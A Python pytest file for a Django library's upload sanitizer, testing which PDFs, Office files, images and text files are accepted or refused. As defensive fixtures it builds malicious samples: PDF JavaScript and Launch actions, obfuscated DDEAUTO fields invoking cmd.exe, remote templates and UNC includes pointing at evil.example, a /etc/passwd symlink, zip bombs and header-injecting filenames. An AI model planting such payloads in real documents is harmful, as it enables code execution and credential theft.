"""Which files are taken, in which form, and what is said of the others: by what they hold."""

import stat
import zlib
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_BZIP2, ZipFile, ZipInfo

import pikepdf
import pytest
from django.core.files.base import File

from library import keeping, uploads, zipped
from tests.files import pdf, picture
from tests.files import zipped as packed
from tests.library.conftest import DOCUMENT, docx, upload

RELS = "word/_rels/document.xml.rels"
NAMESPACE = "http://schemas.openxmlformats.org/package/2006/relationships"
CASES = Path(__file__).parent / "office_samples"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACRO = "holds a macro, a program or an embedded object. Save it as a document without macros"
PRINT = "Print it to a PDF file, which keeps what one reads; choose that."


def relation(kind: str, target: str = "https://x.org", before: str = "") -> bytes:
    """Return a document's relations with one outward of this kind."""
    link = f'<Relationship Id="a" Type="urn:x/{kind}" Target="{target}" TargetMode="External"/>'
    return f'{before}<Relationships xmlns="{NAMESPACE}">{link}</Relationships>'.encode()


def with_part(info: ZipInfo, content: bytes) -> bytes:
    """Return a Word document with one part described by hand."""
    made = BytesIO(docx())
    with ZipFile(made, "a") as document:
        document.writestr(info, content)
    return made.getvalue()


def link_part() -> bytes:
    """Return a document with a link of a file system in it."""
    info = ZipInfo("word/link")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return with_part(info, b"/etc/passwd")


def slow_part() -> bytes:
    """Return a document with a part that takes long to unpack."""
    info = ZipInfo("word/media")
    info.compress_type = ZIP_BZIP2
    return with_part(info, b"x")


def chart(table: bytes) -> bytes:
    """Return slides with a chart and this table behind it."""
    return packed({"ppt/presentation.xml": b"<p/>", "ppt/embeddings/Sheet1.xlsx": table})


def field(*runs: str) -> bytes:
    """Return a part of Word with a field whose words stand in these runs."""
    words = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    turns = [f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")]
    return f"<w:p>{turns[0]}{words}{turns[1]}<w:t>x</w:t>{turns[2]}</w:p>".encode()


def workbook(**parts: bytes) -> bytes:
    """Return a workbook; parts are named with __ for a slash."""
    named = {f"xl/{name.replace('__', '/')}.xml": content for name, content in parts.items()}
    return packed({"xl/workbook.xml": b"<w/>"} | named)


def resaved(raw: bytes, **how: Any) -> bytes:
    """Return a PDF as another program saves it."""
    written = BytesIO()
    with pikepdf.open(BytesIO(raw)) as document:
        document.save(written, **how)
    return written.getvalue()


def in_streams(raw: bytes) -> bytes:
    """Return a PDF whose objects are packed into streams, where no search finds their words."""
    return resaved(raw, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked(raw: bytes, user: str) -> bytes:
    """Return an encrypted PDF; without a user's password everybody opens it."""
    return resaved(raw, encryption=pikepdf.Encryption(owner="o", user=user))


def taken(name: str, content: bytes) -> str:
    """Return the name under which the file is taken with its note, or why it is not."""
    try:
        file = uploads.clean(upload(name, content), kinds=keeping.KINDS, max_mb=keeping.MAX_MB)
    except uploads.Refused as refusal:
        return str(refusal)
    return f"{file.name} {file.note}".strip()


def loading(name: str, where: str, *, is_taken: bool) -> str:
    """Return how a file is told of that loads something from there."""
    if is_taken:
        return f"{name} “{name}” is taken. Programs may ask to load from elsewhere: {where}."
    return f"“{name}” loads a template or object from elsewhere when it is opened: {where}."


SCRIPT = pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
OPENS, BY_NAME = "/OpenAction 5 0 R", "<< /Type /Action /S 6 0 R /F (calc.exe) >>"
ROOT = b"/Root << /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (a.exe) >> >>"
LINKS = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /%s %s >> >>]"
DDE = "DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc.exe&quot; "
TEXT, SHARED = '"C:\\\\Texts\\\\a.docx"', '"\\\\\\\\evil.example\\\\a.docx"'  # as Word writes paths
SOURCE = b"<connections><connection id='1' refreshOnLoad='1'><%s/></connection></connections>"
MACROS = b"<a>" + b" " * 262_140 + b"<b c='x.macro&#69;nabled.main'/></a>"
TABLE = packed({"xl/workbook.xml": b"<w/>"})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", pdf()),
        ("a.pdf", in_streams(pdf())),
        ("a.pdf", locked(pdf(), "")),
        ("a.pdf", pdf() + b"\r\n\0"),
        ("a.pdf", pdf("/JavaScript is a word here")),
        ("a.pdf", pdf(page=LINKS % ("GoTo", "/D 6 0 R /Type 5 0 R"), objects=("/Action", "[]"))),
        ("a.pdf", pdf(page=LINKS % ("URI", "/URI (https://example.org/a)"))),
        ("a.pdf", pdf(page=LINKS % ("GoTo", "/D [3 0 R /Fit]"))),
        ("a.pdf", pdf(catalog="/OpenAction [3 0 R /Fit] /AcroForm << /Fields [] >>")),
        ("a.docx", docx()),
        ("a.docx", docx(**{RELS: relation("hyperlink")})),
        ("a.docx", docx(**{DOCUMENT: field(" HYPERLINK ", "&quot;https://example.org/DDE&quot;")})),
        ("a.docx", docx(**{DOCUMENT: "<d>dde-code, nstrText</d>".encode("utf-16")})),
        ("a.odt", packed({"content.xml": b"<!DOCTYPE a PUBLIC 'a' 'a.dtd'><a>dde-</a>"})),
        ("a.pptx", packed({"ppt/presentation.xml": b"<p/>"})),
        ("a.pptx", chart(TABLE)),
        ("a.xlsx", TABLE),
        ("a.odt", packed({"content.xml": b"<a/>", "META-INF/manifest.xml": b"<m/>"})),
        ("a.PNG", picture()),
        ("a.png", picture(mode="RGBA")),
        ("a.png", picture(mode="I;16")),
        ("a.jpg", picture("JPEG")),
        ("a.jpg", picture("JPEG", mode="CMYK")),
        ("a.jpg", picture("JPEG", size=(640, 480), progressive=True)),
        ("a.csv", b"agency,liens\nSeattle,1"),
        ("a.csv", "agency;a\u00f1o".encode("cp1252")),
        ("a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),
        ("a.odp", packed({"content.xml": b"<a/>"})),
        ("a.txt", "notes".encode("utf-16")),
        ("a.md", b"# Notes"),
        ("a.vtt", b"WEBVTT\n\n00:01.000 --> 00:02.000\nHi"),
        ("a.srt", b"1\n00:00:01,000 --> 00:00:02,000\nHi"),
    ],
)
def test_known_files_are_taken(name: str, content: bytes):
    assert taken(name, content) == name


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", b"<html>%PDF-"),
        ("a.pdf", b"%PDF-1.7 ..."),
        ("a.pdf", b"%PDF-1.7 ...\n%%EOF"),
        ("a.docx", b"not a zip"),
        ("a.docx", b"PK\x03\x04 and then nothing"),
        ("a.docx", packed({DOCUMENT: b"x"}, prefix=b"<script>")),
        ("a.docx", docx() + b"<script>"),
        ("a.docx", packed({"xl/workbook.xml": b"<w/>"})),
        ("a.docx", docx(**{"../evil": b"x"})),
        ("a.docx", link_part()),
        ("a.docx", slow_part()),
        ("a.docx", docx(**{RELS: relation("hyperlink", before="<!DOCTYPE a>")})),
        ("a.docx", docx(**{RELS: b"<not xml"})),
        ("a.docx", docx(**{DOCUMENT: b"<w:instrText>"})),
        ("a.docx", docx(**{DOCUMENT: b"<!DOCTYPE a [<!ENTITY b 'DDE'>]><w:instrText/>"})),
        ("a.docx", docx(**{DOCUMENT: b"<?xml version='1.0' encoding='UTF-7'?><a/>"})),
        ("a.docx", docx(**{DOCUMENT: "<?xml version='1.0'?><a/>".encode("cp037")})),
        ("a.docx", docx(**{RELS: relation("hyperlink") + b" " * zipped.MOST_RELATIONS})),
        ("a.docx", docx()[:-30] + b"\x00" * 30),
        ("a.docx", docx().replace(b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\1")),
        ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
        ("a.png", picture()[:24]),
        ("a.png", picture().replace(b"IDAT", b"IDAt")),
        ("a.png", picture()[:-4] + b"\0\0\0\0"),
        ("a.jpg", picture()),
        ("a.jpg", b"\xff\xd8"),
        ("a.jpg", b"\xff\xd8\xff\xda\x00\x02"),
        ("a.jpg", picture("JPEG")[:-2]),
        ("a.jpg", picture("JPEG")[:28]),
        ("a.csv", b"<svg onload=alert(1)>"),
        ("a.csv", b"MZ\x00\x01"),
        ("a.ics", b"BEGIN:VCALENDAR"),
    ],
)
def test_what_only_looks_like_it_is_refused(name: str, content: bytes):
    assert taken(name, content) == f"“{name}” cannot be read as a {name[1:]} file."


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (SCRIPT, f"runs a script. {PRINT}"),
        (in_streams(SCRIPT), f"runs a script. {PRINT}"),
        (locked(SCRIPT, ""), f"runs a script. {PRINT}"),
        (locked(pdf(), "u"), "asks for a password. Save it without one and choose that."),
        (pdf(page="/AA << /O << /S /JavaScript /JS 5 0 R >> >>"), f"runs a script. {PRINT}"),
        (pdf(page="/AA << /O << /S /J#61vaScript >> >>"), f"runs a script. {PRINT}"),
        (pdf(page=LINKS % ("URI", "/URI (JavaScript:a\\(\\))")), f"runs a script. {PRINT}"),
        (pdf(catalog=OPENS, objects=(BY_NAME, "/L#61unch")), f"starts a program. {PRINT}"),
        (
            in_streams(pdf(catalog=OPENS, objects=(BY_NAME, "/Launch"))),
            f"starts a program. {PRINT}",
        ),
        (pdf(catalog=OPENS, objects=(BY_NAME, "/GoToR")), f"carries or opens other files. {PRINT}"),
        (
            pdf(page=LINKS % ("GoTo", "/Next << /S 5 0 R /F (x) >>"), objects=("/SubmitForm",)),
            f"sends or takes in the entries of a form. {PRINT}",
        ),
        (pdf().replace(b"/Root 1 0 R", ROOT), f"starts a program. {PRINT}"),
        (pdf(page=LINKS % ("Launch", "/F (a.exe)")), f"starts a program. {PRINT}"),
        (
            pdf(page=LINKS % ("SubmitForm", "/F (https://x.org)")),
            f"sends or takes in the entries of a form. {PRINT}",
        ),
        (pdf(page=LINKS % ("GoToR", "/F (x.pdf)")), f"carries or opens other files. {PRINT}"),
        (
            pdf(objects=("<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream",)),
            f"carries or opens other files. {PRINT}",
        ),
        (
            pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) << /EF 5 0 R >>] >> >>"),
            f"carries or opens other files. {PRINT}",
        ),
        (
            pdf(page="/Annots [<< /Subtype /RichMedia >>]"),
            f"plays a video, a sound or a 3D model. {PRINT}",
        ),
        (
            pdf(catalog="/AcroForm << /XFA [] >>"),
            f"holds a form that only some programs show (XFA). {PRINT}",
        ),
        (
            pdf() + b"PK\x03\x04",
            "has something behind its end. Print it to a PDF file; choose that.",
        ),
        (SCRIPT.replace(b"xref\n0", b"xreF\n0"), f"runs a script. {PRINT}"),
    ],
)
def test_pdfs_that_do_something_are_refused(content: bytes, why: str):
    assert taken("a.pdf", content) == f"“a.pdf” {why}"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", docx(word__vbaProject=b"x")),
        ("a.docx", docx(**{"[Content_Types].xml": b'<a b="x.macroEnabled.main"/>'})),
        ("a.docx", docx(**{"[Content_Types].xml": MACROS})),
        ("a.docx", docx(word__activeX__activeX1=b"x")),
        ("a.docx", docx(**{"word/embeddings/oleObject1.bin": OLE + b"x"})),
        ("a.docx", docx(**{"word/media/image1.png": OLE + b"x"})),
        ("a.docx", docx(**{"word/embeddings/setup.exe": b"MZ"})),
        ("a.docx", docx(**{"word/embeddings/a.docm": b"PK"})),
        ("a.pptx", chart(packed({"xl/vbaProject.bin": b"x"}))),
        ("a.pptx", chart(chart(chart(TABLE)))),
        ("a.xlsx", packed({"xl/workbook.xml": b"", "xl/macrosheets/sheet1.xml": b""})),
        ("a.xlsx", workbook(externalLinks__externalLink1=b"<x:ddeLink/>")),
        ("a.xlsx", workbook(externalLinks__externalLink1="<ddeLink/>".encode("utf-16"))),
        ("a.docx", docx(**{DOCUMENT: field(DDE)})),
        ("a.docx", docx(**{DOCUMENT: field("ddeauto", " c:", "\\\\cmd.exe")})),
        ("a.docx", docx(**{DOCUMENT: field(" DD", "<![CDATA[EA]]>", "UTO c:\\\\cmd.exe")})),
        ("a.docx", docx(**{"word/footer1.xml": field(f"IF {field(DDE).decode()} = 1")})),
        ("a.docx", docx(**{DOCUMENT: f"<a><w:fldSimple w:instr=' {DDE}'/></a>".encode("utf-16")})),
        ("a.odt", packed({"content.xml": b"<a/>", "Basic/Standard/a.xml": b""})),
        ("a.odt", packed({"content.xml": b'<script:event-listener script:language="x"/>'})),
        (
            "a.ods",
            packed({"content.xml": b"", "META-INF/manifest.xml": b"<m a='sun.star.oleobject'/>"}),
        ),
    ],
)
def test_documents_with_programs_are_refused(name: str, content: bytes):
    assert taken(name, content).startswith(f"“{name}” {MACRO}")


@pytest.mark.parametrize(
    ("kind", "target", "is_taken"),
    [
        ("attachedTemplate", "file:///C:/Users/me/County.dotx", True),
        ("attachedTemplate", "C:\\Templates\\County.dotx", True),
        ("attachedTemplate", "file:///\\\\countyfs01\\share\\County.dotx", True),
        ("attachedTemplate", "https://evil.example/a.dotm", False),
        ("attachedTemplate", "\\\\evil.example@SSL\\a.dotm", False),
        ("image", "https://example.org/logo.png", True),
        ("image", "file://evil.example/a/logo.png", False),
        ("oleObject", "https://evil.example/a.rtf", False),
        ("frame", "https://evil.example/a.html", False),
    ],
)
def test_what_documents_load_is_told_or_refused(kind: str, target: str, is_taken: bool):
    said = taken("a.docx", docx(**{RELS: relation(kind, target)}))

    assert said.startswith(loading("a.docx", target, is_taken=is_taken))


@pytest.mark.parametrize(
    ("content", "where", "is_taken"),
    [
        (docx(**{DOCUMENT: field("INCLUDETEXT ", TEXT)}), "C:\\Texts\\a.docx", True),
        (docx(**{DOCUMENT: field("INCLUDETEXT ", SHARED)}), "\\\\evil.example\\a.docx", False),
        (docx(**{DOCUMENT: field("INCLUDEPICTURE ", SHARED)}), "\\\\evil.example\\a.docx", False),
        (docx(**{DOCUMENT: field("INCLUDEPICTURE https://x.org/a")}), "https://x.org/a", True),
        (docx(**{DOCUMENT: field("INCLUDETEXT https://x.org/a")}), "https://x.org/a", False),
        (workbook(connections=SOURCE % b"webPr url='http://x.org/t'"), "http://x.org/t", False),
        (workbook(connections=SOURCE % b"dbPr connection='DSN=cases'"), "DSN=cases", True),
        (workbook(connections=SOURCE % b"textPr sourceFile='C:\\a.csv'"), "C:\\a.csv", True),
        (workbook(connections=SOURCE % b"textPr sourceFile='//x.org/a'"), "//x.org/a", False),
    ],
)
def test_fields_and_data_from_elsewhere_are_told_or_refused(
    content: bytes, where: str, is_taken: bool
):
    name = "a.docx" if b"word/" in content else "a.xlsx"

    assert taken(name, content).startswith(loading(name, where, is_taken=is_taken))


@pytest.mark.parametrize(
    ("name", "where"),
    [
        ("doc-template.docx", "file:///C:/Users/me/Templates/County.dotx"),
        ("sheet-link.xlsx", "xl/externalLinks/externalLink1.xml"),
        ("linked.pptx", "https://www.youtube.com/embed/abc"),
    ],
)
def test_documents_of_an_office_are_taken_and_what_they_name_is_told(name: str, where: str):
    assert taken(name, (CASES / name).read_bytes()) == loading(name, where, is_taken=True)


def png_of(width: int, height: int) -> bytes:
    """Return a PNG that says that it is so large."""
    small = picture()
    head = b"IHDR" + width.to_bytes(4) + height.to_bytes(4) + small[24:29]
    return small[:12] + head + zlib.crc32(head).to_bytes(4) + small[33:]


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("a.exe", b"MZ", "Save or print it as a PDF"),
        ("a.md", b"<svg onload=alert(1)>", "cannot be read as a .md file"),
        ("a.srt", b"1\n00:01 --> 00:02\nHi", "Line 2: The time is not written as"),
        ("a.vtt", b"Just words", "Line 1: Captions are WebVTT"),
        ("a.svg", b"<svg/>", "is not one of"),
        ("a.html.pdf.html", b"%PDF-", "is not one of"),
        ("a", b"%PDF-", "is not one of"),
        ("a.pdf", b"", "is empty"),
        ("a.pdf", b"%PDF-" + bytes(keeping.MAX_MB * uploads.MB), "is larger than 50 MB"),
        ("a.png", png_of(10_000, 10_000), "has more than 50 million pixels"),
        ("a.png", png_of(0, 1), "has more than 50 million pixels"),
        (
            "a.jpg",
            picture("JPEG").replace(b"\x08\x00\x03\x00\x04\x03", b"\x08\xff\xff\xff\xff\x03"),
            "has more than 50 million pixels",
        ),
        ("a.docx", docx(word__a=b"<fldSimple/>" + bytes(zipped.MOST_READ)), "unpacks to far more"),
        (
            "a.docx",
            docx(word__a=b"<fldSimple/>" + b"<a/>" * zipped.MOST_TAGS),
            "unpacks to far more",
        ),
        ("a.docx", docx(word__media=bytes(zipped.MOST_UNPACKED + 1)), "unpacks to far more"),
        ("a.docx", docx(**{f"word__{n}": b"" for n in range(2_000)}), "unpacks to far more"),
    ],
)
def test_other_kinds_and_sizes_are_refused(name: str, content: bytes, why: str):
    assert why in taken(name, content)


def test_bomb_that_lies_about_its_size_is_refused():
    honest = docx(word__media=bytes(uploads.MB))
    lying = honest.replace((uploads.MB).to_bytes(4, "little"), (10).to_bytes(4, "little"))

    assert "cannot be read" in taken("a.docx", lying)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.csv", "passwd.csv"),
        ("C:\\Users\\me\\notes.csv", "notes.csv"),
        ("a\r\nSet-Cookie: b.csv", "aSet-Cookie: b.csv"),
        ("\u202efdp.exe.csv", "fdp.exe.csv"),
        ("x" * 300 + ".csv", "x" * 150 + ".csv"),
    ],
)
def test_names_are_cleaned(given: str, kept: str):
    assert keeping.looked_into(File(BytesIO(b"a,b"), name=given)).name == kept
